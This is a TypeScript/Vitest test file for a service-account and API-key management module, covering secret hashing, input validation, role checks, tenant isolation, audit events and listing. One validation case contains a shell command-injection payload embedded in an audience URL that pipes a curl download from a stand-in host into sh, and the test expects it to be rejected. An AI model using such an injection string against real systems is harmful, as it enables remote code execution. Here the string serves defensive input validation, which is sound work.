import { describe, expect, it } from "vitest";
import { db } from "../db";
import { cliActor } from "../audit/types";
import { hashCredential } from "../credentials/hash";
import { actorFor, makeOrg, makeUser } from "../testing/factories";
import { orgWithServiceAccount } from "../testing/service-account-fixtures";
import { createServiceAccount } from "./create-service-account";
import { updateServiceAccount } from "./update-service-account";
import { activateServiceAccount, deactivateServiceAccount } from "./set-service-account-status";
import { deleteServiceAccount } from "./delete-service-account";
import { getServiceAccount } from "./get-service-account";
import { listServiceAccounts } from "./list-service-accounts";
import { rotateClientSecret } from "./rotate-client-secret";
import { createApiKey } from "../api-keys/create-api-key";
import { revokeApiKey } from "../api-keys/revoke-api-key";
import { deleteScope } from "../scopes/delete-scope";
import { listScopes } from "../scopes/list-scopes";

describe("creating service accounts", () => {
  it("returns the secret once, stores only its keyed hash and a hint, and audits without it", async () => {
    const { org, created } = await orgWithServiceAccount();
    expect(created.clientId).toMatch(/^sa_[0-9A-Za-z]{20}$/);
    expect(created.clientSecret).toMatch(/^tss_/);
    const secret = await db().clientSecret.findUniqueOrThrow({ where: { id: created.secretId } });
    expect(secret.hash).toBe(hashCredential(created.clientSecret));
    expect(secret.hint).toBe(created.clientSecret.slice(-4));
    const everything = JSON.stringify(await db().auditEvent.findMany({ where: { orgId: org.id } }));
    expect(everything).not.toContain(created.clientSecret);
    expect(everything).not.toContain(secret.hash);
    const event = await db().auditEvent.findFirstOrThrow({ where: { orgId: org.id, action: "service_account.created" } });
    expect(JSON.parse(event.metadata!)).toMatchObject({
      after: { name: "billing-job", scopes: ["billing:read", "billing:refund"] },
      highRiskScopes: ["billing:refund"],
    });
  });

  it.each([
    [{ name: "billing-job" }, "conflict", "name", /taken/],
    [{ name: "ttl", tokenTtlSeconds: 30 }, "validation_failed", "tokenTtlSeconds", /at least 60/],
    [{ name: "ttl2", tokenTtlSeconds: 90_000 }, "validation_failed", "tokenTtlSeconds", /at most 86400/],
    [{ name: "aud", audiences: ["ftp://x.example.com"] }, "validation_failed", "audiences.0", /absolute URI/],
    [{ name: "aud2", audiences: ["bad name!"] }, "validation_failed", "audiences.0", /Audiences cannot contain spaces/],
    [{ name: "aud3", audiences: [] }, "validation_failed", "audiences", /at least one/],
    [{ name: "aud4", audiences: Array.from({ length: 11 }, (_, i) => `a${i}.example.com`) }, "validation_failed", "audiences", /At most 10/],
    [{ name: "aud5", audiences: ["https://a.example.com", "https://x.example/$(curl${IFS}evil|sh)"] }, "validation_failed", "audiences.1", /\$, backticks, quotes or backslashes/],
    [{ name: "aud6", audiences: ["https://X.example:443/"] }, "validation_failed", "audiences.0", /canonical form: https:\/\/x\.example\/$/],
    [{ name: "scope", scopes: ["nope:read"] }, "validation_failed", "scopes", /Unknown scope/],
  ])("refuses bad input %j with a %s error on its field and saves nothing", async (override, code, field, message) => {
    const { org, actor } = await orgWithServiceAccount();
    const before = await db().serviceAccount.count({ where: { orgId: org.id } });
    const error = await createServiceAccount(actor, org.slug, { audiences: ["https://a.example.com"], ...override }).catch((e) => e);
    expect(error).toMatchObject({ code });
    expect(Object.keys(error.fieldErrors ?? {})).toEqual([field]);
    expect(error.fieldErrors[field].join(" ")).toMatch(message);
    expect(await db().serviceAccount.count({ where: { orgId: org.id } })).toBe(before);
  });
});

describe("authorisation and tenant isolation", () => {
  it("a REVIEWER reads but cannot change anything", async () => {
    const { org, reviewerActor, created } = await orgWithServiceAccount();
    await expect(getServiceAccount(reviewerActor, org.slug, created.clientId)).resolves.toBeTruthy();
    const attempts = [
      createServiceAccount(reviewerActor, org.slug, { name: "r", audiences: ["a.example.com"] }),
      updateServiceAccount(reviewerActor, org.slug, created.clientId, { description: "x" }),
      deactivateServiceAccount(reviewerActor, org.slug, created.clientId),
      rotateClientSecret(reviewerActor, org.slug, created.clientId),
      createApiKey(reviewerActor, org.slug, created.clientId, { name: "k" }),
      deleteServiceAccount(reviewerActor, org.slug, created.clientId),
    ];
    for (const attempt of attempts) await expect(attempt).rejects.toMatchObject({ code: "forbidden" });
    const detail = await getServiceAccount(cliActor(), org.slug, created.clientId);
    expect(detail.account.status).toBe("ACTIVE");
    expect(detail.secrets).toHaveLength(1);
  });

  it("another organisation's admin gets 404 for the account, even through their own org", async () => {
    const { org, created } = await orgWithServiceAccount();
    const intruder = await makeUser();
    const theirOrg = await makeOrg([{ userId: intruder.id, role: "OWNER" }]);
    const them = actorFor(intruder);
    await expect(getServiceAccount(them, org.slug, created.clientId)).rejects.toMatchObject({ code: "not_found" });
    await expect(getServiceAccount(them, theirOrg.slug, created.clientId)).rejects.toMatchObject({ code: "not_found" });
    await expect(rotateClientSecret(them, theirOrg.slug, created.clientId)).rejects.toMatchObject({ code: "not_found" });
    await expect(deleteServiceAccount(them, theirOrg.slug, created.clientId)).rejects.toMatchObject({ code: "not_found" });
    expect((await listServiceAccounts(them, theirOrg.slug)).total).toBe(0);
    expect(await db().serviceAccount.count({ where: { clientId: created.clientId } })).toBe(1);
  });
});

describe("lifecycle", () => {
  it("updates with before/after in the audit trail", async () => {
    const { org, actor, created } = await orgWithServiceAccount();
    await updateServiceAccount(actor, org.slug, created.clientId, { scopes: ["billing:read"], tokenTtlSeconds: 600 });
    const event = await db().auditEvent.findFirstOrThrow({ where: { orgId: org.id, action: "service_account.updated" } });
    expect(JSON.parse(event.metadata!)).toEqual({
      before: { scopes: ["billing:read", "billing:refund"], tokenTtlSeconds: 3600 },
      after: { scopes: ["billing:read"], tokenTtlSeconds: 600 },
      highRiskScopes: [],
    });
    const detail = await getServiceAccount(actor, org.slug, created.clientId);
    expect(detail.account.scopes.map((s) => s.name)).toEqual(["billing:read"]);
    // Granting a high-risk scope again names it, so the org home lists the change as high-risk.
    await updateServiceAccount(actor, org.slug, created.clientId, { scopes: ["billing:read", "billing:refund"] });
    const regrant = await db().auditEvent.findFirstOrThrow({ where: { orgId: org.id, action: "service_account.updated" }, orderBy: { seq: "desc" } });
    expect(JSON.parse(regrant.metadata!)).toMatchObject({ after: { scopes: ["billing:read", "billing:refund"] }, highRiskScopes: ["billing:refund"] });
  });

  it("deactivates, reactivates and deletes; the audit history stays", async () => {
    const { org, actor, created } = await orgWithServiceAccount();
    await deactivateServiceAccount(actor, org.slug, created.clientId);
    await expect(deactivateServiceAccount(actor, org.slug, created.clientId)).rejects.toMatchObject({ code: "conflict" });
    await activateServiceAccount(actor, org.slug, created.clientId);
    const key = await createApiKey(actor, org.slug, created.clientId, { name: "ci" });
    await deleteServiceAccount(actor, org.slug, created.clientId);
    expect(await db().clientSecret.count({ where: { id: created.secretId } })).toBe(0);
    expect(await db().apiKey.count({ where: { id: key.id } })).toBe(0);
    const actions = (await db().auditEvent.findMany({ where: { orgId: org.id, targetId: created.clientId }, orderBy: { seq: "asc" } })).map((e) => e.action);
    expect(actions).toEqual([
      "service_account.created",
      "service_account.deactivated",
      "service_account.activated",
      "service_account.deleted",
    ]);
  });

  it("API keys: tak_ format, shown once, scope subset only, expiry default 90 days, revocable", async () => {
    const { org, actor, created } = await orgWithServiceAccount();
    const now = new Date("2033-01-01T00:00:00Z");
    const key = await createApiKey(actor, org.slug, created.clientId, { name: "ci", scopes: ["billing:read"] }, now);
    expect(key.apiKey).toMatch(/^tak_/);
    expect(key.expiresAt).toBe("2033-04-01T00:00:00.000Z");
    await expect(createApiKey(actor, org.slug, created.clientId, { name: "x", scopes: ["tessera:introspect"] })).rejects.toMatchObject({ code: "validation_failed", status: 422 });
    const never = await createApiKey(actor, org.slug, created.clientId, { name: "forever", expiresInDays: null });
    expect(never.expiresAt).toBeNull();
    await revokeApiKey(actor, org.slug, key.id);
    await expect(revokeApiKey(actor, org.slug, key.id)).rejects.toMatchObject({ code: "conflict" });
    const stored = JSON.stringify(await db().apiKey.findMany({ where: { orgId: org.id } }));
    expect(stored).not.toContain(key.apiKey);
  });

  it("a scope cannot be deleted while an account holds it; reserved scopes exist and are high-risk", async () => {
    const { org, actor, created } = await orgWithServiceAccount();
    await expect(deleteScope(actor, org.slug, "billing:refund")).rejects.toMatchObject({ code: "conflict" });
    await updateServiceAccount(actor, org.slug, created.clientId, { scopes: ["billing:read"] });
    await deleteScope(actor, org.slug, "billing:refund");
    const scopes = await listScopes(actor, org.slug);
    expect(scopes.filter((s) => s.reserved).every((s) => s.highRisk && s.name.startsWith("tessera:"))).toBe(true);
    expect(scopes.map((s) => s.name)).toContain("tessera:introspect");
    await expect(deleteScope(actor, org.slug, "tessera:introspect")).rejects.toMatchObject({ code: "bad_request" });
  });
});

describe("listing", () => {
  it("searches, filters by status, scope and audience, sorts and paginates in the database", async () => {
    const { org, actor } = await orgWithServiceAccount();
    for (let i = 0; i < 12; i++) {
      await createServiceAccount(actor, org.slug, {
        name: `job-${String(i).padStart(2, "0")}`,
        scopes: i % 2 ? ["billing:read"] : [],
        audiences: [i % 3 ? "https://a.example.com" : "https://b.example.com"],
      });
    }
    const page2 = await listServiceAccounts(actor, org.slug, { q: "JOB-", pageSize: 5, page: 2, sort: "name" });
    expect(page2.total).toBe(12);
    expect(page2.rows.map((r) => r.name)).toEqual(["job-05", "job-06", "job-07", "job-08", "job-09"]);
    expect((await listServiceAccounts(actor, org.slug, { scope: "billing:read", q: "job-" })).total).toBe(6);
    expect((await listServiceAccounts(actor, org.slug, { audience: "https://b.example.com" })).total).toBe(4);
    expect((await listServiceAccounts(actor, org.slug, { audience: "https://b.example" })).total).toBe(0);
    await deactivateServiceAccount(actor, org.slug, page2.rows[0]!.clientId);
    expect((await listServiceAccounts(actor, org.slug, { status: "DISABLED" })).rows.map((r) => r.name)).toEqual(["job-05"]);
    const desc = await listServiceAccounts(actor, org.slug, { sort: "name", dir: "desc", pageSize: 1 });
    expect(desc.rows[0]!.name).toBe("job-11");
  });
});
